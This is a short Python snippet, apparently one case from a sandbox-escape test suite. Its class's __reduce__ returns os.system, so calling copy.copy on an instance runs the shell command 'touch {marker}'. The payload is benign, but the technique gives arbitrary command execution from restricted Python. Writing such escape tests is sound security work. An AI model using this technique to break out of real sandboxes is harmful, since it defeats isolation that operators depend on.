# escape: copyreg._reconstructor and copy.copy call what __reduce_ex__ names
# effect: marker
import copy
class Evil:
    def __reduce__(self):
        return (__import__("os").system, ("touch {marker}",))
copy.copy(Evil())
return "done"
